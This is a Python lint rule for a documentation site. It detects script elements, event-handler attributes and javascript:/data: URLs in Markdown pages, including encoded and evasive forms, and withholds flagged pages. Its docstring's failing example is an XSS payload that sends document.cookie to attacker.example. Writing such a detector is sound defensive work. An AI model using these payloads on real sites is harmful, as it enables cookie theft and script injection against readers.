"""A page contains markup that could run in a reader's browser.

## What it checks

Every Markdown page (ToRs, briefs, procedures and other pages) for:

- `script`, `iframe`, `object`, `embed` or `form` elements;
- event-handler attributes such as `onclick=` or `onerror=`, however they are
  separated (`<svg/onload=...>`), on a tag split over lines, or written where
  they could break out of an attribute (`![x" onerror="alert(1)](a.png)`) or
  through an attribute list (`{ onclick="..." }`);
- `javascript:`, `vbscript:` or `data:` URLs in links and images, whether
  written as Markdown (`[text](javascript:...)`, reference definitions,
  autolinks) or as HTML (`href=`, `src=`), also when written with character
  references (`jav&#x61;script&colon;`).

Text inside code blocks and code spans is shown, not run, and is not reported.
A page with this finding is also left out of the site until it is fixed.

## Why

Markdown allows raw HTML, and the site is read on partners' networks by staff
who trust it. A contributed file must not be able to run script in readers'
browsers, submit their data elsewhere or frame another site.

## Passing example

```markdown
See the [escalation procedure](../procedures/escalation.md).
```

## Failing example

```markdown
<img src="x.png" onerror="fetch('https://attacker.example/?c='+document.cookie)">
[Click here](javascript:alert(1))
```

## Options

None.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator

from checks.loading.markdown import code_lines
from checks.model.findings import Problem, Severity
from checks.rules.base import Context, Options

CODE = "SEC001"
NAME = "unsafe-markup"
SEVERITY = Severity.ERROR

#: What a finding keeps off the site (read by checks.site.build): its page.
WITHHOLDS = frozenset({"page"})

_SCHEME = (
    r"(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:"
)
PATTERNS: tuple[tuple[re.Pattern[str], str], ...] = (
    (re.compile(r"<\s*/?\s*(script|iframe|object|embed|form)\b", re.I), "a <{0}> element"),
    # Browsers take `/` and quotes as attribute separators: <svg/onload=...>. The
    # scan stops at the next `<` as well as `>`, so that a line of 30,000 `<` is read
    # in time in proportion to it (the last `<` before a handler still starts a match).
    (re.compile(r"<[^<>]*?[\s/\"'](on[a-z]+)\s*=", re.I), "an event-handler attribute ({0}=)"),
    # A handler that calls something, outside a tag too: an attr_list `{ onclick=... }`,
    # or one written to break out of an image's alt text or a link's title.
    (
        re.compile(r"(?<![a-z])(on[a-z]{3,})\s*=\s*\\?[\"']?[\w.$]+\s*[(`]", re.I),
        "an event-handler attribute ({0}=)",
    ),
    (
        re.compile(
            r"(?:href|src|action|formaction|xlink:href|srcset|poster)\s*=\s*[\"']?\s*("
            + _SCHEME
            + ")",
            re.I,
        ),
        "a {0} URL in HTML",
    ),
    (re.compile(r"\]\(\s*<?\s*(" + _SCHEME + ")", re.I), "a {0} URL in a Markdown link"),
    (
        re.compile(r"^\s{0,3}\[[^\]]+\]:\s*<?\s*(" + _SCHEME + ")", re.I),
        "a {0} URL in a link reference",
    ),
    (re.compile(r"<\s*(" + _SCHEME + r")[^>]*>", re.I), "a {0} URL in an autolink"),
)
_CODE_SPAN = re.compile(r"(`+)(?:(?!\1).)+?\1")


_SPLIT_TAG = re.compile(r"<[a-z][^<>]*?[\s/\"'](on[a-z]+)\s*=", re.I | re.S)


def _decoded(line: str) -> str:
    """A line as a browser reads its URLs and attributes: character references
    decoded (`jav&#x61;script&colon;`), however deeply, and control characters gone."""
    for _ in range(5):
        decoded = html.unescape(line)
        if decoded == line:
            break
        line = decoded
    return re.sub(r"[\x00-\x08\x0b-\x1f]", "", line)


def findings_in(
    text: str, first_line: int, skip: set[int] | None = None
) -> Iterator[tuple[int, str]]:
    """(line, what) for each piece of unsafe markup in a page body."""
    skip = code_lines(text) if skip is None else skip
    lines = text.split("\n")
    seen: set[tuple[int, str]] = set()
    for offset, line in enumerate(lines):
        if offset in skip:
            continue
        visible = _CODE_SPAN.sub("", line)
        for form in dict.fromkeys((visible, _decoded(visible))):
            for pattern, what in PATTERNS:
                for match in pattern.finditer(form):
                    message = what.format(re.sub(r"\s+", "", match.group(1)).lower())
                    if (offset, message) not in seen:  # <script>...</script> is one finding
                        seen.add((offset, message))
                        yield first_line + offset, message
    # A tag whose handler is on a later line than its name.
    if "<" in text:
        kept = "\n".join("" if i in skip else _CODE_SPAN.sub("", x) for i, x in enumerate(lines))
        for match in _SPLIT_TAG.finditer(kept):
            at = kept.count("\n", 0, match.start(1))
            message = f"an event-handler attribute ({match.group(1).lower()}=)"
            if "\n" in match.group(0) and (at, message) not in seen:
                seen.add((at, message))
                yield first_line + at, message


_ANY = re.compile(r"<|javascript|vbscript|data\s*:", re.I)
_DATA = re.compile(r"data\s*:")
_HANDLER = re.compile(r"on[a-z]{3,}\s*=")


def _may_hold_markup(body: str) -> bool:
    """False when nothing in the page could be markup or a script URL.

    Substring tests on ASCII text are many times faster than the case-blind
    pattern, which is kept for text where case folding is less simple.
    """
    if "<" in body or "&" in body:  # markup, or a character reference hiding a scheme
        return True
    if not body.isascii():
        return _ANY.search(body) is not None
    lower = body.lower()
    return (
        "javascript" in lower
        or "vbscript" in lower
        or ("data" in lower and _DATA.search(lower) is not None)
        or ("on" in lower and _HANDLER.search(lower) is not None)
    )


def check(ctx: Context, options: Options) -> Iterator[Problem]:
    for path, doc in ctx.kb.documents.items():
        if not _may_hold_markup(doc.body):
            continue  # nothing that could be markup or a script URL: skip line by line
        for line, what in findings_in(doc.body, doc.body_line, doc.code_lines):
            yield Problem(
                path,
                line,
                f"the page contains {what}, which could run in readers' browsers; remove it "
                "(the page is left out of the site until then)",
                path,
            )
